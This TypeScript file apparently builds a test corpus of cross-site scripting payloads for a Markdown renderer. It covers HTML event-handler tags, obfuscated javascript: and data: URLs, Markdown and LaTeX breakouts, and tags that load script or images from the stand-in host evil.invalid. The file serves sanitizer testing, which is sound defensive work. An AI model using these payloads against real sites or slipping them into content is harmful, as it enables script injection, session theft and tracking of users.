const evil = 'https://evil.invalid'

/**
 * Attempts to run script, or to make a browser fetch something, from within Markdown. Every attempt that succeeds
 * calls `alert`, `prompt` or `confirm`, or asks for a URL below `https://evil.invalid/`.
 */
export const xssPayloads: readonly string[] = [...html(), ...schemes().flatMap(inMarkdown), ...breakouts()]

/** HTML that runs or fetches by itself once it is parsed as HTML. */
function html(): string[] {
  const handlers = [
    'onerror',
    'onload',
    'onfocus',
    'ontoggle',
    'onmouseover',
    'onanimationstart',
    'onbegin',
    'onstart',
  ]
  const carriers = [
    (on: string) => `<img src=x ${on}=alert(1)>`,
    (on: string) => `<svg ${on}=alert(1)>`,
    (on: string) => `<svg><animate ${on}=alert(1) attributeName=x dur=1s></svg>`,
    (on: string) => `<body ${on}=alert(1)>`,
    (on: string) => `<details open ${on}=alert(1)>x</details>`,
    (on: string) => `<input autofocus ${on}=alert(1)>`,
    (on: string) => `<video autoplay ${on}=alert(1)><source src=x ${on}=alert(1)></video>`,
    (on: string) => `<marquee ${on}=alert(1)>x</marquee>`,
    (on: string) => `<a href=x ${on}=alert(1) style=animation-name:x>x</a>`,
  ]
  return [...handlers.flatMap((on) => carriers.map((carrier) => carrier(on))), ...tags()]
}

function tags(): string[] {
  return [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.invalid/x.js></SCRIPT>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<script\n>alert(1)</script\n>',
    '<script/x>alert(1)</script>',
    '<<script>alert(1)//<</script>',
    `<script src="${evil}/x.js"></script>`,
    '<svg><script>alert(1)</script></svg>',
    '<svg><script href="data:text/javascript,alert(1)"/></svg>',
    '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<style>@import url(https://evil.invalid/x.css);</style>',
    `<link rel=stylesheet href=${evil}/x.css>`,
    `<link rel=prefetch href=${evil}/x>`,
    `<meta http-equiv=refresh content="0;url=${evil}/">`,
    `<base href=${evil}/>`,
    `<iframe src=${evil}/></iframe>`,
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    '<iframe src="javascript:parent.alert(1)"></iframe>',
    `<object data=${evil}/x.swf></object>`,
    '<object data="data:text/html,<script>parent.alert(1)</script>"></object>',
    `<embed src=${evil}/x>`,
    `<form action=${evil}/><button>x</button></form>`,
    '<form><button formaction="javascript:alert(1)">x</button></form>',
    `<img src=${evil}/pixel.png>`,
    `<img srcset="${evil}/pixel.png 1x">`,
    `<picture><source srcset=${evil}/p.png><img></picture>`,
    `<video poster=${evil}/p.png src=${evil}/v.mp4></video>`,
    `<audio autoplay src=${evil}/a.mp3></audio>`,
    `<svg><image href=${evil}/p.png /></svg>`,
    `<svg><use href="${evil}/p.svg#x"/></svg>`,
    `<table background=${evil}/p.png><tr><td>x</table>`,
    `<div style="background:url(${evil}/p.png)">x</div>`,
    `<input type=image src=${evil}/p.png>`,
    '<template><script>alert(1)</script></template>',
    '<x-element is="x" onclick=alert(1) autofocus tabindex=1 onfocus=alert(1)>x</x-element>',
    '<!--><img src=x onerror=alert(1)>-->',
    '<!-- --!><img src=x onerror=alert(1)>',
    '<![CDATA[<img src=x onerror=alert(1)>]]>',
    '<?php <img src=x onerror=alert(1)> ?>',
    '<!DOCTYPE x [<!ENTITY y "<img src=x onerror=alert(1)>">]>&y;',
    '<textarea></textarea><img src=x onerror=alert(1)>',
    '<title></title><img src=x onerror=alert(1)>',
    '<plaintext><img src=x onerror=alert(1)>',
    '<select><option><img src=x onerror=alert(1)></select>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '&lt;img src=x onerror=alert(1)&gt;',
    '&#60;script&#62;alert(1)&#60;/script&#62;',
    '\u0000<img src=x onerror=alert(1)>',
    '\ufeff<img src=x onerror=alert(1)>',
    '<img\u00a0src=x\u000bonerror=alert(1)>',
    '<img/src=x/onerror=alert(1)>',
    '<img src="x`y" onerror=alert(1)>',
    '<img src=`x` onerror=alert(1)>',
  ]
}

/** URLs that run or reveal something when followed. */
function schemes(): string[] {
  return [
    'javascript:alert(1)',
    'JAVASCRIPT:alert(1)',
    'jAvAsCrIpT:alert(1)',
    ' javascript:alert(1)',
    '\u0001javascript:alert(1)',
    'java\tscript:alert(1)',
    'java\nscript:alert(1)',
    'java&#10;script:alert(1)',
    'java&Tab;script:alert(1)',
    '&#106;avascript:alert(1)',
    '&#x6A;avascript:alert(1)',
    'javascript&colon;alert(1)',
    'javascript&#58;alert(1)',
    '%6Aavascript:alert(1)',
    'javascript://%0aalert(1)',
    'javascript:%61lert(1)',
    'javascript:/*-/*`/*\\`/*\'/*"/**/(alert(1))',
    'vbscript:msgbox(1)',
    'data:text/html,<script>alert(1)</script>',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    'data:image/svg+xml,<svg onload=alert(1)>',
    'blob:https://evil.invalid/x',
    'file:///etc/passwd',
    'filesystem:https://evil.invalid/x',
    'view-source:javascript:alert(1)',
    'feed:javascript:alert(1)',
    '//evil.invalid/x',
    'x" onerror="alert(1)',
    "x' onmouseover='alert(1)",
    'https://evil.invalid/"onmouseover="alert(1)',
    'https://evil.invalid/`onmouseover=alert(1)',
    'https://evil.invalid/?"><img src=x onerror=alert(1)>',
  ]
}

function inMarkdown(url: string): string[] {
  return [
    `[x](${url})`,
    `[x](<${url}>)`,
    `![x](${url})`,
    `<${url}>`,
    `[x]: ${url}\n\n[x] ![x][x]`,
    `[x](https://evil.invalid/ "${url}")`,
    `![${url}](https://evil.invalid/p.png)`,
  ]
}

/** Attempts to leave the construct that a renderer writes for a piece of Markdown. */
function breakouts(): string[] {
  const inner = '"><img src=x onerror=alert(1)>'
  return [
    `\`\`\`${inner}\ncode\n\`\`\``,
    `\`\`\`js"onmouseover="alert(1)\ncode\n\`\`\``,
    '```html\n</code></pre><img src=x onerror=alert(1)>\n```',
    '`</code><img src=x onerror=alert(1)>`',
    `# ${inner}`,
    `> ${inner}`,
    `- [x] ${inner}`,
    `|${inner}|\n|-|\n|${inner}|`,
    '|a|\n|:-" onmouseover="alert(1)|\n|b|',
    `**${inner}**`,
    `~~${inner}~~`,
    `[${inner}](https://evil.invalid/)`,
    `![${inner}](https://evil.invalid/p.png)`,
    '![x](https://evil.invalid/p.png" onload="alert(1))',
    '[x](https://evil.invalid/ "t\\" onmouseover=\\"alert(1)")',
    '[a]: https://evil.invalid/ "x\\" onfocus=\\"alert(1)"\n\n[a]',
    '$\\href{javascript:alert(1)}{x}$',
    '$\\url{javascript:alert(1)}$',
    '$\\includegraphics{https://evil.invalid/p.png}$',
    '$\\class{x" onmouseover="alert(1)}{y}$',
    '$\\id{x}{y}$',
    '$\\style{background:url(https://evil.invalid/p.png)}{y}$',
    '$\\data{x=1}{y}$',
    '$\\text{<img src=x onerror=alert(1)>}$',
    '$$\\unicode{<img src=x onerror=alert(1)>}$$',
    '\\(\\text{</math><img src=x onerror=alert(1)>}\\)',
    '$\\color{red" onmouseover="alert(1)}{x}$',
    '$\\def\\x{\\x\\x}\\x$',
    'https://evil.invalid/"><img src=x onerror=alert(1)>',
    'www.evil.invalid/"onmouseover="alert(1)',
    'a@evil.invalid"><img src=x onerror=alert(1)>',
    '<https://evil.invalid/"onmouseover="alert(1)>',
    '<a@evil.invalid"onmouseover="alert(1)>',
    '\\<img src=x onerror=alert(1)\\>',
    '[x](javascript:alert`1`)',
    '[x][y]\n\n[y]: <javascript:alert(1)>',
    '[![x](https://evil.invalid/p.png)](javascript:alert(1))',
    '[x](data:text/html;charset=utf-8,<script>alert(1)</script>)',
    '*[x](javascript:alert(1))*',
    '1. [x](javascript:alert(1))\n   ![x](https://evil.invalid/p.png)',
  ]
}
